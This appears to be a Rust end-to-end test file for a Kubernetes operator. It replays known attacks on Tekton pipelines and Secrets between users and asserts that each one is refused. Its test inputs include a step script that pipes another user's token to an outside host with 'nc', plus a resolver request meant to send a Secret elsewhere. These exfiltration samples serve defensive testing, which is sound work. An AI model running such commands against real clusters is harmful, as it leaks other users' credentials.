//! Attacks that once gave one user the credentials of another, or the operator's token too much. Each is
//! repeated against a cluster with the chart and a running operator, and fails. `grace` may do all that
//! the role `edit` allows and run what she likes, but reads no Secret.
#![expect(
    clippy::unwrap_used,
    reason = "the helpers of tests may do what tests may do"
)]

#[path = "support/identity.rs"]
mod identity;
#[path = "support/people.rs"]
mod people;
mod support;

use std::time::Duration;

use extension_registry_api::RUN_BY_ANNOTATION;
use extension_registry_e2e::cluster::Node;
use extension_registry_e2e::{Cluster, Installed, Options};
use identity::{
    ENGINE, PROJECT, RIGHTS, TEAM, no_pod_for_grace, run, secret_of, user_of_run, user_record,
    user_workflow,
};
use kube::Client;
use kube::api::{DeleteParams, Patch, PatchParams, PostParams, PropagationPolicy};
use people::{create, create_dry, objects, of_kubeconfig, person};
use serde_json::{Value, json};
use support::{Lab, condition, eventually, record, secret_name, section, text, workflow};

struct Scene {
    lab: Lab,
    ada: Client,
    grace: Client,
    engine: Client,
    admin: Client,
    /// Of `ada`.
    secret: String,
}

#[tokio::test(flavor = "multi_thread")]
async fn known_attacks_fail() {
    let options = Options {
        node: Node::None,
        ..Options::default()
    };
    let cluster = Cluster::start(options).await.unwrap();
    let installed = Installed::without_webhook(&cluster).unwrap();
    let lab = Lab::begin(cluster, installed, "findings", &[]);
    lab.namespace(PROJECT);
    lab.cluster.apply(RIGHTS).unwrap();
    lab.apply(&user_record()).await;
    let mut scene = Scene {
        ada: person(&lab.cluster, "ada", &[TEAM]),
        grace: person(&lab.cluster, "grace", &[TEAM]),
        engine: person(&lab.cluster, ENGINE, &["system:masters"]),
        admin: lab.cluster.client(),
        secret: String::new(),
        lab,
    };
    create(&scene.ada, &user_workflow("train"), &PostParams::default())
        .await
        .unwrap();
    scene.secret = secret_of(&scene.lab.ready(PROJECT, "train").await);
    a_workflow_that_names_the_secret_gets_no_value(&scene).await;
    names_that_the_engine_fills_in_start_nothing(&scene).await;
    an_orphaned_pipeline_gives_nothing(&scene).await;
    fetched_tasks_give_nothing(&scene).await;
    the_operators_token_changes_no_foreign_pipeline(&scene).await;
    a_replaced_secret_is_a_conflict(&scene).await;
    an_orphaned_projection_leaves_no_secret(&scene).await;
    the_status_of_a_run_is_not_written(&scene).await;
    scene.lab.stop().await;
}

async fn a_workflow_that_names_the_secret_gets_no_value(scene: &Scene) {
    section("a workflow that names the Secret of another user gets no value of it");
    let mut thief = workflow(PROJECT, "thief", &json!({}));
    let from = json!({"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}});
    thief["spec"]["steps"] =
        json!([{"name": "train", "image": "i", "env": [{"name": "T", "valueFrom": from}]}]);
    // Refused, or stored: its run is another user's in either case.
    match create(&scene.grace, &thief, &PostParams::default()).await {
        Err(said) => assert!(said.contains("ext-"), "{said}"),
        Ok(()) => {
            scene
                .lab
                .until(("Workflow", PROJECT, "thief"), "is reconciled", |object| {
                    !condition(object, "Ready")["status"].is_null()
                })
                .await;
        }
    }
    no_pod_for_grace(&scene.lab, &scene.secret).await;
}

async fn names_that_the_engine_fills_in_start_nothing(scene: &Scene) {
    section("names that the engine fills in lead to nothing that the names themselves do not");
    let lab = &scene.lab;
    lab.apply(&record("attack", &json!([{"name": "all"}])))
        .await;
    create(
        &scene.ada,
        &workflow(PROJECT, "held", &json!({"product": "attack"})),
        &PostParams::default(),
    )
    .await
    .unwrap();
    lab.ready(PROJECT, "held").await;
    lab.delete("ClusterExtension", "", "attack").await;
    lab.refused_again(PROJECT, "held", "NotFound").await;
    let param = |name: &str, value: &str| json!({"name": name, "value": value});
    let resolver =
        |params: Value| json!({"pipelineRef": {"resolver": "cluster", "params": params}});
    let kind = param("kind", "pipeline");
    let specs = [
        resolver(json!([
            kind,
            param("name", "$(params.n)"),
            param("namespace", PROJECT)
        ])),
        resolver(json!([
            kind,
            param("name", "held"),
            param("namespace", "x"),
            param("namespace", PROJECT)
        ])),
        json!({"pipelineRef": {"name": "he$(params.n)"}}),
        json!({"pipelineRef": {"name": "$(context.pipelineRun.name)"}}),
        json!({"pipelineRef": {"name": "held"}}),
    ];
    for spec in specs {
        let mut run = run("x");
        run["metadata"]["name"] = json!("held");
        run["spec"] = spec;
        run["spec"]["params"] = json!([param("n", "held")]);
        run["spec"]["taskRunTemplate"] = json!({"podTemplate": {"hostAliases": [
            {"ip": "10.0.0.1", "hostnames": ["store.example.org"]}]}});
        eventually(
            Duration::from_secs(10),
            "the run is refused",
            async || match create_dry(&scene.grace, &run).await {
                Err(said) if said.contains("on hold") => Ok(()),
                other => Err(format!("{other:?}")),
            },
        )
        .await;
    }
    // Where nothing is held such a run starts, and its Pods get nothing.
    no_pod_for_grace(&scene.lab, &scene.secret).await;
    lab.delete("Workflow", PROJECT, "held").await;
}

async fn an_orphaned_pipeline_gives_nothing(scene: &Scene) {
    section("the Pipeline of an orphaned workflow is held, and gives another user nothing");
    let lab = &scene.lab;
    create(&scene.ada, &user_workflow("left"), &PostParams::default())
        .await
        .unwrap();
    lab.ready(PROJECT, "left").await;
    // The collector of garbage learns of new kinds each half minute.
    eventually(
        Duration::from_mins(2),
        "the collector knows Pipelines",
        async || match lab.get("Pipeline", PROJECT, "held").await {
            Value::Null => Ok(()),
            pipeline => Err(pipeline.to_string()),
        },
    )
    .await;
    let orphan = DeleteParams {
        propagation_policy: Some(PropagationPolicy::Orphan),
        ..DeleteParams::default()
    };
    let workflows = objects(
        &scene.grace,
        "registry.fuseml.io/v1alpha1",
        "Workflow",
        PROJECT,
    );
    workflows.delete("left", &orphan).await.map(drop).unwrap();
    eventually(
        Duration::from_mins(1),
        "the run is refused",
        async || match create_dry(&scene.grace, &run("left")).await {
            Err(said) if said.contains("(Orphaned)") => Ok(()),
            other => Err(format!("{other:?}")),
        },
    )
    .await;
    no_pod_for_grace(&scene.lab, &scene.secret).await;
}

async fn fetched_tasks_give_nothing(scene: &Scene) {
    section("what is fetched from elsewhere runs as the user who started the run");
    let git =
        json!({"resolver": "git", "params": [{"name": "url", "value": "https://git.example.org"}]});
    let mut fetched = run("x");
    fetched["spec"] = json!({"pipelineRef": git});
    fetched["metadata"]["annotations"] = json!({RUN_BY_ANNOTATION: "ada"});
    assert_eq!(user_of_run(&scene.grace, &fetched).await, "grace");
    // The engine admits what it fetched with a dry run.
    let metadata = json!({"annotations": {RUN_BY_ANNOTATION: "ada"}});
    for spec in [
        json!({"tasks": [{"name": "t", "taskSpec": {"metadata": metadata, "steps": []}}]}),
        json!({"tasks": []}),
    ] {
        let pipeline = json!({
            "apiVersion": "tekton.dev/v1", "kind": "Pipeline", "spec": spec,
            "metadata": {"namespace": PROJECT, "name": "fetched", "annotations": metadata["annotations"]},
        });
        let said = create_dry(&scene.engine, &pipeline).await.unwrap_err();
        assert!(said.contains("reserved for runs"), "{said}");
    }

    section("no resolver sends the Secret elsewhere");
    let params = json!([
        {"name": "url", "value": "https://grace.example.org"},
        {"name": "http-username", "value": "x"},
        {"name": "http-password-secret", "value": scene.secret},
        {"name": "http-password-secret-key", "value": "TOKEN"},
    ]);
    let request = json!({
        "apiVersion": "resolution.tekton.dev/v1beta1", "kind": "ResolutionRequest",
        "metadata": {"namespace": PROJECT, "name": "http"}, "spec": {"params": params},
    });
    let said = create_dry(&scene.engine, &request).await.unwrap_err();
    assert!(said.contains("is not available to resolvers"), "{said}");
}

async fn the_operators_token_changes_no_foreign_pipeline(scene: &Scene) {
    section("a stolen token of the operator changes no foreign Pipeline and no run");
    let token = of_kubeconfig(scene.lab.installed.kubeconfig()).await;
    let foreign = json!({
        "apiVersion": "tekton.dev/v1", "kind": "Pipeline",
        "metadata": {"namespace": PROJECT, "name": "foreign"}, "spec": {"tasks": []},
    });
    create(&scene.grace, &foreign, &PostParams::default())
        .await
        .unwrap();
    let mut started = run("foreign");
    started["metadata"]["name"] = json!("started");
    create(&scene.grace, &started, &PostParams::default())
        .await
        .unwrap();
    let force = PatchParams::apply("extension-registry").force();
    let stolen = json!({"spec": {"tasks": [{"name": "mine"}]}});
    let labels = json!({"metadata": {"labels": {"app": "mine"}}});
    let cases = [
        (
            "Pipeline",
            "foreign",
            &stolen,
            "a Pipeline controlled by the Workflow of the same name",
        ),
        (
            "Pipeline",
            "foreign",
            &labels,
            "a Pipeline controlled by the Workflow of the same name",
        ),
        ("PipelineRun", "started", &stolen, "denied request"),
        (
            "PipelineRun",
            "started",
            &labels,
            "may only change the annotation registry.fuseml.io/bindings of a PipelineRun",
        ),
    ];
    for (kind, name, patch, expected) in cases {
        let api = objects(&token, "tekton.dev/v1", kind, PROJECT);
        let mut applied = patch.clone();
        applied["apiVersion"] = json!("tekton.dev/v1");
        applied["kind"] = json!(kind);
        for said in [
            api.patch(name, &PatchParams::default(), &Patch::Merge(patch))
                .await,
            api.patch(name, &force, &Patch::Apply(&applied)).await,
        ] {
            let said = said.unwrap_err().to_string();
            assert!(said.contains(expected), "{kind}: {said}");
        }
    }
}

async fn a_replaced_secret_is_a_conflict(scene: &Scene) {
    section("a foreign Secret does not take the place of a rendered one");
    let lab = &scene.lab;
    lab.apply(&record(
        "store",
        &json!([{"name": "main", "configuration": [{"name": "KEY", "value": "v"}]}]),
    ))
    .await;
    create(
        &scene.ada,
        &workflow(PROJECT, "stores", &json!({"product": "store"})),
        &PostParams::default(),
    )
    .await
    .unwrap();
    lab.ready(PROJECT, "stores").await;
    let name = secret_name("store", "main");
    let foreign = json!({
        "apiVersion": "v1", "kind": "Secret", "type": "servicebinding.io/s3",
        "metadata": {"namespace": PROJECT, "name": name}, "stringData": {"KEY": "mine"},
    });
    lab.delete("Secret", PROJECT, &name).await;
    let said = create_dry(&scene.admin, &foreign).await.unwrap_err();
    assert!(said.contains("or the name of a rendered Secret"), "{said}");

    section(
        "where the policy is lifted, the workflow is not ready until the Secret is the operator's again",
    );
    let binding = lab.lift_policy("managed-secrets");
    eventually(
        Duration::from_secs(20),
        "the policy is lifted",
        async || create(&scene.admin, &foreign, &PostParams::default()).await,
    )
    .await;
    // A run has the operator check its Secrets.
    let mut check = run("stores");
    check["metadata"]["name"] = json!("checks");
    create(&scene.ada, &check, &PostParams::default())
        .await
        .unwrap();
    lab.refused_again(PROJECT, "stores", "SecretConflict").await;
    let projection = lab.get("ExtensionProjection", PROJECT, &name).await;
    assert_eq!(condition(&projection, "Ready")["reason"], "SecretConflict");
    assert!(projection["status"]["secret"].is_null(), "{projection}");
    let gate = lab.get("RunGate", PROJECT, "extension-registry").await;
    assert_eq!(gate["spec"]["heldPipelines"]["stores"], "SecretConflict");
    // It does not heal by itself.
    lab.settled(&["Workflow", "ExtensionProjection"]).await;
    lab.refused_again(PROJECT, "stores", "SecretConflict").await;
    lab.cluster.apply(&binding).unwrap();
    lab.delete("Secret", PROJECT, &name).await;
    lab.ready(PROJECT, "stores").await;
    let rendered = lab.get("Secret", PROJECT, &name).await;
    assert_eq!(
        rendered["metadata"]["ownerReferences"][0]["kind"],
        "ExtensionProjection"
    );
}

async fn an_orphaned_projection_leaves_no_secret(scene: &Scene) {
    section("no deletion of a projection leaves its Secret behind");
    let lab = &scene.lab;
    let delete = [
        "delete",
        "extp",
        &scene.secret,
        "-n",
        PROJECT,
        "--cascade=orphan",
    ];
    let said = lab.cluster.kubectl_run(&delete).unwrap_err().to_string();
    assert!(
        said.contains("delete it without --cascade=orphan"),
        "{said}"
    );
    let secrets = objects(&scene.admin, "v1", "Secret", PROJECT);
    let stripped = Patch::Merge(json!({"metadata": {"ownerReferences": []}}));
    let said = secrets
        .patch(&scene.secret, &PatchParams::default(), &stripped)
        .await;
    let said = said.unwrap_err().to_string();
    assert!(
        said.contains("metadata.ownerReferences: a rendered Secret"),
        "{said}"
    );
    let owner = &lab.get("Secret", PROJECT, &scene.secret).await["metadata"]["ownerReferences"][0];
    assert_eq!(text(&owner["name"]), scene.secret);
}

async fn the_status_of_a_run_is_not_written(scene: &Scene) {
    section("what a run of another user does is not changed through its status");
    let mut hers = run("train");
    hers["metadata"]["name"] = json!("hers");
    create(&scene.ada, &hers, &PostParams::default())
        .await
        .unwrap();
    let env = json!([{"name": "T", "valueFrom": {"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}}}]);
    let step = json!({"name": "s", "image": "i", "env": env, "script": "echo $T | nc grace.example.org 80"});
    let status = json!({"status": {"pipelineSpec": {"tasks": [{"name": "t", "taskSpec": {"steps": [step]}}]}}});
    for client in [&scene.grace, &scene.admin] {
        let runs = objects(client, "tekton.dev/v1", "PipelineRun", PROJECT);
        let said = runs
            .patch_status("hers", &PatchParams::default(), &Patch::Merge(&status))
            .await
            .unwrap_err()
            .to_string();
        assert!(
            said.contains("only the pipeline engine can write the status"),
            "{said}"
        );
    }
}
